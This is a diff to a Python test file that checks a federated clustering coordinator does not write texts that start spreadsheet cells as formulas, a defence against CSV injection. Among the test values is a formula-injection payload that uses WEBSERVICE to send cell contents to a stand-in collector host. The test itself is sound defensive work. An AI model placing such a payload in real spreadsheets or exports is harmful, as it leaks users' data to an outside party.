@@ -7,7 +7,6 @@ import numpy as np
 import pandas as pd
 import pytest
 from support.terminal import Terminal
-from support.verdicts import RIGHT, Verdict, attacked, check
 
 from clustering_protocols.protocols.llf import LosslessFederated
 from clustering_protocols.terms.preparation import Preparation
@@ -16,17 +15,12 @@ from clustering_protocols.terms.sections import Release
 from clustering_protocols.terms.terms import Layout
 from tests.protocols.attacks.honest_sessions import completed, house_in, play
 
-VERDICTS: dict[str, Verdict] = {
-    "label of a level": RIGHT,
-    "title": RIGHT,
-    "unit": RIGHT,
-}
-"""By what the coordinator writes: whether it begins a cell beside a party's rows."""
 TEXTS = {
     "label of a level": '=WEBSERVICE("https://collector.example/?"&A2&"&"&B2)',
     "title": "=1+1",
     "unit": "@SUM(1)",
 }
+"""What the coordinator writes; none of it may begin a cell beside a party's rows."""
 
 
 def test_texts_of_others_begin_no_cell_as_formulas(
@@ -88,5 +82,4 @@ def test_texts_of_others_begin_no_cell_as_formulas(
         with path.open(newline="", encoding="utf-8") as file:
             cells |= {cell for line in csv.reader(file) for cell in line}
     assert "female" in cells
-    for case, verdict in VERDICTS.items():
-        check(attacked(TEXTS[case] in cells and "formula" not in said), verdict)
+    assert not cells & set(TEXTS.values()) or "formula" in said
